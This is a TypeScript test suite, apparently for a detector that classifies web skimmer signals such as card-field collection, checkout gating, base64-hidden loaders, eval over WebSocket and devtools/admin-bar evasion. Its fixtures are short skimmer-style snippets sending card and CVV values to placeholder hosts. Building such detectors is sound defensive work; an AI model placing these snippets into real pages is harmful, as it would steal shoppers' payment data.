import { describe, expect, it } from 'vitest';
import type { SignalKind } from './profile.ts';
import { profileText } from './profile-text.ts';

const kinds = (text: string): SignalKind[] => profileText(text).signals.map(({ kind }) => kind);

describe('signals', () => {
  it.each<[SignalKind, string]>([
    ['collects-card', `show(document.getElementById('cc-number').value)`],
    [
      'collects-card',
      `var ids = ['card_no', 'security_code']; ids.forEach(function (i) { fetch('/a', { body: document.getElementById(i).value }); })`,
    ],
    [
      'collects-form',
      `for (const f of document.querySelectorAll('input, select')) fetch('/a', { body: f.value })`,
    ],
    [
      'checkout-gate',
      `if (/onepage|checkout/.test(location.href)) start(1, '${'x'.repeat(20)}'), fetch('/a', { body: document.querySelector('#cvv').value })`,
    ],
    [
      'evaluated-code',
      `const s = new WebSocket('wss://a.b.localhost'); s.onmessage = (e) => eval(e.data)`,
    ],
    ['encoded-host', `new Image().src = atob('aHR0cHM6Ly9zdHJhbmdlLmxvY2FsaG9zdC9w')`],
    [
      'loader',
      `var s = document.createElement('script'); s.src = atob('aHR0cHM6Ly9zdHJhbmdlLmxvY2FsaG9zdC9w'); document.head.append(s)`,
    ],
    ['admin-check', `if (document.getElementById('wpadminbar')) stop(); fetch('/x')`],
    [
      'devtools-check',
      `if (outerWidth - innerWidth > 160) stop(); fetch('https://x.y.localhost/a', { body: document.querySelector('#cvv').value })`,
    ],
    ['staging', `localStorage.setItem('t', document.querySelector('#card-number').value)`],
    [
      'fake-form',
      `box.innerHTML = '<label>Kreditkartennummer</label><input id="a"><label>Prüfnummer</label><input id="b">'; fetch('/x', { body: a.value })`,
    ],
    [
      'evaluated-code',
      `<script>const s = new WebSocket('wss://a.b.localhost'); s.onmessage = (e) => eval(e.data)</script>`,
    ],
    [
      'checkout-gate',
      `for (const w of ['kasse', 'checkout']) if (location.href.includes(w)) fetch('/x', { body: document.forms[0].value })`,
    ],
  ])('%s', (kind, text) => {
    expect(kinds(text)).toContain(kind);
  });

  it('takes a sentence about card numbers for no card form that is sent', () => {
    const text = `box.innerHTML = '<input placeholder="カード番号は書かないでください"><input name="mail">'; new WebSocket('wss://a.b.localhost').send(field.value)`;
    expect(profileText(text).verdict).toBe('review');
  });

  it('masks card numbers and mail addresses in excerpts', () => {
    const text = `fetch('https://a.b.localhost/?c=4111111111111111&m=taro@shop.example', { body: document.querySelector('#cvv').value })`;
    const { signals } = profileText(text);
    const shown = signals.map(({ excerpt, detail }) => excerpt + detail).join('\n');
    expect(shown).toContain('[card number]');
    expect(shown).not.toMatch(/4111111111111111|taro@shop/);
  });

  it('says where: character, line', () => {
    const text = `\n\nnew Image().src = 'https://a.b.localhost/' + btoa(document.querySelector('#cvv').value);`;
    const sink = profileText(text).signals.find(({ kind }) => kind === 'sink');
    expect(sink?.line).toBe(3);
    expect(text.slice(sink?.start, sink?.end)).toMatch(/^new Image\(\)\.src = /);
  });
});

describe('what ordinary scripts do stays at review', () => {
  it.each([
    [
      'a token asked of a payment company',
      `form.addEventListener('submit', async () => {
      const card = { number: document.querySelector('#card-number').value, cvc: document.querySelector('#cvc').value };
      const r = await fetch('https://api.some-psp.example/tokens', { method: 'POST', body: JSON.stringify(card) });
      document.querySelector('[name=token]').value = (await r.json()).id;
    });`,
    ],
    [
      'settings in base64',
      `const c = JSON.parse(atob('eyJob3N0IjoiaHR0cHM6Ly9jZG4uYS5leGFtcGxlIn0=')); const s = document.createElement('script'); s.src = c.host + '/a.js'; document.head.append(s)`,
    ],
    [
      'a chat',
      `const s = new WebSocket('wss://chat.example/ws'); s.onmessage = (e) => show(JSON.parse(e.data).text); button.onclick = () => s.send(box.value)`,
    ],
  ])('%s', (_, text) => {
    expect(['clean', 'review']).toContain(profileText(text).verdict);
  });
});

describe('shape', () => {
  it('is the same for two texts that differ in literals and white space only', () => {
    const first = profileText(`var order = { id: 1234, name: "tea" }; show(order, /a/);`).shape;
    const second = profileText(
      `var order = {id:77,\n name:'coffee'}; /* x */ show(order, /bcd/g);`,
    ).shape;
    expect(second).toBe(first);
  });

  it('differs where the code does', () => {
    expect(profileText('show(1);').shape).not.toBe(profileText('hide(1);').shape);
  });
});
